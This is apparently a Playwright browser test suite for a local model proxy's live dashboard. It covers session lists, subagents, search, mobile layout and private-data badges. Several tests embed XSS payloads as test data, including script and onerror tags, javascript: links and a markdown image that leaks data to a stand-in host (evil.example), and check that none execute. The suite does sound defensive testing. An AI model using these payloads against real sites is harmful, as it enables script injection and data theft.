"""The /dashboard page in headless Chromium against a real Trooper fed through its Anthropic front door."""

from __future__ import annotations

from typing import Any

import httpx
import pytest
from playwright.sync_api import expect

from tests.browser import SCREENSHOTS
from tests.fakes.behaviours import model_not_found, reply_text

pytestmark = pytest.mark.browser

#: "Live within a second": the feed pushes at once; this margin only absorbs a slow CI machine.
LIVE_TIMEOUT_MS = 2_000
VIEWPORT = {"width": 1360, "height": 900}


@pytest.fixture
def trooper(fake_ollama, make_trooper):  # type: ignore[no-untyped-def]
    return make_trooper(FALLBACK_URL=fake_ollama.api_chat_url)


def agent_turn(
    base_url: str, session_id: str, messages: list[dict[str, Any]], user_agent: str = "python-httpx", *, agent_id: str = "",
    **extra: Any,
) -> None:
    """One turn of an agent through the Anthropic front door, as an SDK would send it; with
    ``agent_id``, a subagent's turn under that session, as Claude Code sends it."""
    ids = {"X-Claude-Code-Session-Id": session_id, "x-claude-code-agent-id": agent_id} if agent_id else {"X-Session-ID": session_id}
    response = httpx.post(
        f"{base_url}/v1/messages",
        json={"model": "claude-haiku-4-5", "max_tokens": 256, "messages": messages, **extra},
        headers={"x-api-key": "local", "anthropic-version": "2023-06-01", "User-Agent": user_agent, **ids},
        timeout=20,
    )
    assert response.status_code == 200, response.text


def test_empty_dashboard_tells_a_new_user_where_to_point_their_agent(trooper, watched) -> None:  # type: ignore[no-untyped-def]
    page = watched.page
    page.goto(f"{trooper.url}/dashboard")
    welcome = page.locator("#welcome")
    expect(welcome).to_contain_text(f"Point your agent at {trooper.url}")
    expect(page.locator("#snippet-anthropic")).to_have_text(
        f'from anthropic import Anthropic\nclient = Anthropic(base_url="{trooper.url}")'
    )
    expect(page.locator("#snippet-openai")).to_contain_text(f'base_url="{trooper.url}/v1"')
    expect(page.locator("#live-status")).to_have_text("Live")
    page.screenshot(path=str(SCREENSHOTS / "dashboard-empty.png"))
    assert not watched.errors


def test_a_new_turn_and_an_open_loop_appear_live_without_a_reload(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    page = watched.page
    page.goto(f"{trooper.url}/dashboard")
    expect(page.locator("#live-status")).to_have_text("Live")
    page.evaluate("window.__sameDocument = true")

    first_question = {"role": "user", "content": "Add retries to the payments client in billing-api."}
    first_answer = "Wrap `charge()` in a retry loop with **exponential backoff**."
    fake_ollama.enqueue(reply_text(first_answer))
    agent_turn(trooper.url, "agent-live", [first_question])

    item = page.locator(".session-item[data-session-id='agent-live']")
    expect(item).to_be_visible(timeout=LIVE_TIMEOUT_MS)
    item.click()
    expect(page.locator("#transcript .turn")).to_have_count(2, timeout=LIVE_TIMEOUT_MS)
    expect(page.locator("#transcript .turn-assistant strong")).to_have_text("exponential backoff")
    expect(page.locator("#transcript .turn-assistant .provider-tag")).to_contain_text("ollama")

    fake_ollama.enqueue(reply_text("I will look at the checkout test next."))
    agent_turn(trooper.url, "agent-live", [
        first_question,
        {"role": "assistant", "content": first_answer},
        {"role": "user", "content": "The checkout test still fails on CI."},
    ])
    expect(page.locator("#transcript .turn")).to_have_count(4, timeout=LIVE_TIMEOUT_MS)
    loop = page.locator("#sitrep .open-loops li").first
    expect(loop).to_contain_text("still fails on CI", timeout=LIVE_TIMEOUT_MS)
    # the item names the turn it was read from; its button brings that turn into view
    expect(loop).to_have_attribute("title", "The checkout test still fails on CI.")
    loop.locator("button.evidence").click()
    expect(page.locator("#transcript .turn.evidence-turn")).to_have_attribute("data-seq", "2")
    expect(page.locator("#transcript .turn.evidence-turn")).to_contain_text("still fails on CI")
    # A live update redraws the transcript: the turn the reader asked for stays marked.
    fake_ollama.enqueue(reply_text("Looking at it now."))
    agent_turn(trooper.url, "agent-live", [
        first_question,
        {"role": "assistant", "content": first_answer},
        {"role": "user", "content": "The checkout test still fails on CI."},
        {"role": "assistant", "content": "I will look at the checkout test next."},
        {"role": "user", "content": "Any news?"},
    ])
    expect(page.locator("#transcript .turn")).to_have_count(6, timeout=LIVE_TIMEOUT_MS)
    expect(page.locator("#transcript .turn.evidence-turn")).to_have_attribute("data-seq", "2")
    expect(page.locator("#detail-providers")).to_contain_text("ollama")
    assert page.evaluate("window.__sameDocument") is True, "the page reloaded"
    # A full-page capture of a scrolled page draws the sticky top bar where the scroll left it:
    # from the top, the whole page (the highlighted turn included) is drawn as a reader sees it.
    # The evidence button scrolled smoothly: let that scroll end first, or it moves the page again.
    settled, position = 0, page.evaluate("window.scrollY")
    while settled < 3:
        page.wait_for_timeout(100)
        now = page.evaluate("window.scrollY")
        settled, position = (settled + 1, now) if now == position else (0, now)
    page.evaluate("window.scrollTo({top: 0, behavior: 'instant'})")
    assert page.evaluate("window.scrollY") == 0
    page.screenshot(path=str(SCREENSHOTS / "dashboard-session.png"), full_page=True)
    assert not watched.errors and not watched.dialogs


def test_a_session_of_one_turn_reads_1_turn(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    """A first call whose answer failed leaves its question: one turn, singular."""
    fake_ollama.enqueue(model_not_found())
    failed = httpx.post(
        f"{trooper.url}/v1/messages",
        json={"model": "claude-haiku-4-5", "max_tokens": 64, "messages": [{"role": "user", "content": "hello?"}]},
        headers={"x-api-key": "local", "anthropic-version": "2023-06-01", "X-Session-ID": "agent-one-turn"},
        timeout=20,
    )
    assert failed.status_code >= 400
    page = watched.page
    page.goto(f"{trooper.url}/dashboard")
    item = page.locator(".session-item[data-session-id='agent-one-turn']")
    expect(item).to_contain_text("1 turn")
    expect(item).not_to_contain_text("1 turns")
    assert not watched.errors


def test_rows_name_client_first_words_and_short_id_and_can_be_filtered_and_searched(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    fake_ollama.default = reply_text("On it.")
    agent_turn(trooper.url, "s-0123456789abcdefabcd", [{"role": "user", "content": "Why does the checkout test fail on CI?"}],
               user_agent="claude-cli/2.0.0 (external, cli)")
    agent_turn(trooper.url, "agent-notes", [{"role": "user", "content": "Draft the release notes for version two"}],
               user_agent="Anthropic/Python 0.40.0")
    agent_turn(trooper.url, "agent-xss", [{"role": "user", "content": "<img src=x onerror=alert(1)> look at this"}],
               user_agent="Anthropic/Python 0.40.0")
    page = watched.page
    page.goto(f"{trooper.url}/dashboard")
    rows = page.locator(".session-item")
    expect(rows).to_have_count(3)
    claude_code = page.locator(".session-item[data-session-id='s-0123456789abcdefabcd']")
    expect(claude_code.locator(".client-tag")).to_have_text("Claude Code")
    expect(claude_code.locator(".session-short-id")).to_have_text("01234567")
    # the question is the session's intent now (the SITREP's, its words as written), so the row leads with it
    expect(claude_code).to_contain_text("why does the checkout test fail on CI")
    expect(page.locator(".session-item[data-session-id='agent-notes'] .client-tag")).to_have_text("anthropic-python")
    hostile = page.locator(".session-item[data-session-id='agent-xss']")
    expect(hostile).to_contain_text("<img src=x onerror=alert(1)> look at this")
    assert hostile.locator("img").count() == 0

    page.fill("#session-search", "release notes")
    expect(rows).to_have_count(1)
    expect(rows.first).to_have_attribute("data-session-id", "agent-notes")
    expect(page.locator("#session-count")).to_have_text("1 of 3")
    page.fill("#session-search", "nothing like this")
    expect(rows).to_have_count(0)
    expect(page.locator("#no-matches")).to_be_visible()
    page.fill("#session-search", "")
    page.select_option("#client-filter", "Claude Code")
    expect(rows).to_have_count(1)
    expect(rows.first).to_have_attribute("data-session-id", "s-0123456789abcdefabcd")
    page.select_option("#client-filter", "")
    expect(rows).to_have_count(3)


def test_subagents_are_listed_under_their_session(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    hostile = "Find <img src=x onerror=alert('task')> in the parser module."
    agent_turn(trooper.url, "agent-tree", [{"role": "user", "content": "Audit the parser for injection bugs."}])
    agent_turn(trooper.url, "agent-tree", [{"role": "user", "content": hostile}], agent_id="a1")
    agent_turn(trooper.url, "agent-tree", [{"role": "user", "content": "Review the tokenizer tests."}], agent_id="a2")
    agent_turn(trooper.url, "lone-session", [{"role": "user", "content": "Warm the cache on start."}])

    page = watched.page
    page.goto(f"{trooper.url}/dashboard")
    parent = page.locator("#session-list > li[data-session-id='agent-tree']")
    subagents = parent.locator(":scope > ol.session-children > li > .session-item")
    expect(subagents).to_have_count(2)
    expect(page.locator("#session-list > li")).to_have_count(2)  # the two sessions; subagents sit inside theirs
    expect(subagents.filter(has_text="onerror alert")).to_have_count(1)  # its task, as text
    expect(subagents.first).to_contain_text("subagent")
    # Both measured in one script run: the list is rebuilt on every live update, and a node
    # replaced between two separate measurements has no box.
    indent = page.evaluate(
        """() => {
            const parent = document.querySelector("#session-list > li[data-session-id='agent-tree']");
            const own = parent.querySelector(":scope > .session-item").getBoundingClientRect();
            const child = parent.querySelector(":scope > ol.session-children > li > .session-item").getBoundingClientRect();
            return child.x - own.x;
        }"""
    )
    assert indent > 8, "indented under its session"

    subagents.filter(has_text="tokenizer").click()
    expect(page.locator("#detail-parent")).to_be_visible()
    page.locator("#detail-parent-link").click()
    expect(page.locator("#detail-id")).to_have_text("agent-tree")
    expect(page.locator("#detail-parent")).to_be_hidden()
    expect(page.locator("#sitrep")).to_contain_text("subagent: review the tokenizer tests (done)")
    page.screenshot(path=str(SCREENSHOTS / "dashboard-subagents.png"))
    assert page.locator("#session-list img, [onerror]").count() == 0
    assert not watched.errors and not watched.dialogs


XSS_TEXTS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg onload=alert('svg')></svg>",
    "<iframe src=http://evil.example/frame></iframe>",
    "[click](javascript:alert('link')) [tab](jav&#x09;ascript:alert('tab'))",
    "![leak](http://evil.example/collect?q=secret)",
    "<a href=javascript:alert('raw')>raw</a> <div style='position:fixed;inset:0'>cover</div>",
]


def test_hostile_transcript_executes_nothing(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    hostile = "\n\n".join(XSS_TEXTS)
    fake_ollama.enqueue(reply_text("Answer: " + hostile))
    agent_turn(trooper.url, "agent-xss", [
        {"role": "user", "content": hostile},
        {"role": "assistant", "content": [
            {"type": "text", "text": hostile},
            {"type": "tool_use", "id": "toolu_01", "name": "search", "input": {"q": "<img src=x onerror=alert('input')>"}},
        ]},
        {"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": "toolu_01", "content": "<svg onload=alert('result')></svg>"},
            {"type": "text", "text": "And now? <script>alert('again')</script>"},
        ]},
    ], tools=[{"name": "search", "description": "Search", "input_schema": {"type": "object"}}])

    page = watched.page
    page.goto(f"{trooper.url}/dashboard#agent-xss")
    transcript = page.locator("#transcript")
    expect(transcript.locator(".turn")).to_have_count(4, timeout=5_000)
    expect(transcript).to_contain_text("[image removed: leak]")
    expect(transcript.locator(".tool-use pre")).to_contain_text("<img src=x onerror=alert('input')>")
    page.wait_for_timeout(500)  # let any (wrongly) inserted markup try to load or run

    assert page.locator("#session-view img, #session-view script, #session-view svg, #session-view iframe").count() == 0
    assert page.locator("[onerror], [onload], [style*='position']").count() == 0
    hrefs = transcript.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert all(href is None or href.startswith(("http://", "https://", "mailto:")) for href in hrefs)
    assert watched.dialogs == []
    assert watched.remote_requests == []
    assert watched.errors == []


def test_dashboard_on_a_phone_lists_then_opens_a_session(trooper, fake_ollama, browser) -> None:  # type: ignore[no-untyped-def]
    fake_ollama.enqueue(reply_text("Done: the cache is warmed on start."))
    agent_turn(trooper.url, "agent-phone", [{"role": "user", "content": "Warm the cache on start in the api service."}])
    context = browser.new_context(viewport={"width": 390, "height": 800}, is_mobile=True, has_touch=True)
    page = context.new_page()
    page.goto(f"{trooper.url}/dashboard")
    item = page.locator(".session-item[data-session-id='agent-phone']")
    expect(item).to_be_visible()
    page.screenshot(path=str(SCREENSHOTS / "dashboard-phone-list.png"))
    item.click()
    expect(page.locator("#transcript .turn")).to_have_count(2)
    expect(page.locator(".sessions")).to_be_hidden()
    page.get_by_role("button", name="← Sessions").click()
    expect(item).to_be_visible()
    context.close()


def test_pinned_sessions_are_marked_in_the_list(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    aws_key = "AKIAQ3EGRTW5J2KD7XPL"
    page = watched.page
    page.goto(f"{trooper.url}/dashboard")
    expect(page.locator("#live-status")).to_have_text("Live")
    fake_ollama.enqueue(reply_text("Rotate it now."))
    agent_turn(trooper.url, "pinned-1", [{"role": "user", "content": f"I pasted AWS_ACCESS_KEY_ID={aws_key} in a public repo"}])
    fake_ollama.enqueue(reply_text("Sure."))
    agent_turn(trooper.url, "plain-1", [{"role": "user", "content": "Rename the helper in utils.py"}])

    pinned = page.locator(".session-item[data-session-id='pinned-1']")
    expect(pinned.locator(".private-badge")).to_have_text("pinned local", timeout=LIVE_TIMEOUT_MS)
    expect(pinned.locator(".private-badge")).to_have_attribute("title", "Holds private data (aws_access_key): answered on this machine only")
    expect(page.locator(".session-item[data-session-id='plain-1']")).to_be_visible()
    expect(page.locator(".session-item[data-session-id='plain-1'] .private-badge")).to_have_count(0)
    assert aws_key not in page.locator("#session-list").inner_html()
    assert not watched.errors


def test_claude_server_tool_blocks_and_documents_show_what_they_are_not_their_bytes(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    # Claude Code's WebSearch answer, resent in the history (the local model answers without it).
    fake_ollama.enqueue(reply_text("Noted."))
    agent_turn(trooper.url, "agent-websearch", [
        {"role": "user", "content": [
            {"type": "document", "title": "notes.pdf", "source": {"type": "base64", "media_type": "application/pdf", "data": "JVBERi0xLjQ="}},
            {"type": "text", "text": "latest trooper release"},
        ]},
        {"role": "assistant", "content": [
            {"type": "server_tool_use", "id": "srvtoolu_01", "name": "web_search", "input": {"query": "trooper release"}},
            {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_01", "content": [{
                "type": "web_search_result", "url": "https://example.org/notes", "title": "<img src=x onerror=alert('title')>",
                "encrypted_content": "EqCIPHERTEXT", "page_age": None,
            }]},
            {"type": "text", "text": "Trooper 2.0 shipped.", "citations": [{
                "type": "web_search_result_location", "url": "https://example.org/notes", "title": "Notes",
                "encrypted_index": "EoINDEX", "cited_text": "2.0 shipped",
            }]},
        ]},
        {"role": "user", "content": "thanks"},
    ])

    page = watched.page
    page.goto(f"{trooper.url}/dashboard#agent-websearch")
    transcript = page.locator("#transcript")
    expect(transcript.locator(".turn")).to_have_count(4, timeout=5_000)
    search, results = transcript.locator(".tool-use").all()
    expect(search.locator(".block-title")).to_have_text("Server tool · web_search")
    expect(search.locator("pre")).to_contain_text('"query": "trooper release"')
    expect(results.locator(".block-title")).to_have_text("Server tool result · web_search_tool_result")
    expect(results.locator("pre")).to_contain_text("https://example.org/notes")
    expect(results.locator("pre")).to_contain_text("<img src=x onerror=alert('title')>")  # as text
    expect(transcript).not_to_contain_text("EqCIPHERTEXT")
    expect(transcript).to_contain_text("[document: notes.pdf]")  # its title: a PDF's bytes are not shown
    expect(transcript).not_to_contain_text("JVBERi0xLjQ=")
    assert page.locator("#session-view img").count() == 0 and watched.dialogs == [] and watched.errors == []


def test_claudes_compaction_shows_its_summary_as_text(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    # A history resent with Claude's compaction block: the local model answers from its summary.
    fake_ollama.enqueue(reply_text("Noted."))
    summary = "The user is fixing a build. <img src=x onerror=alert('summary')>"
    agent_turn(trooper.url, "agent-compacted", [
        {"role": "user", "content": "a long build log"},
        {"role": "assistant", "content": [{"type": "compaction", "content": summary}, {"type": "text", "text": "Add the include."}]},
        {"role": "user", "content": "which header?"},
    ])

    page = watched.page
    page.goto(f"{trooper.url}/dashboard#agent-compacted")
    transcript = page.locator("#transcript")
    expect(transcript.locator(".turn")).to_have_count(4, timeout=5_000)
    compaction = transcript.locator("details", has_text="Claude compacted the conversation before this point")
    compaction.locator("summary").click()
    expect(compaction.locator("pre")).to_have_text(summary)  # as text
    assert page.locator("#session-view img").count() == 0 and watched.dialogs == [] and watched.errors == []
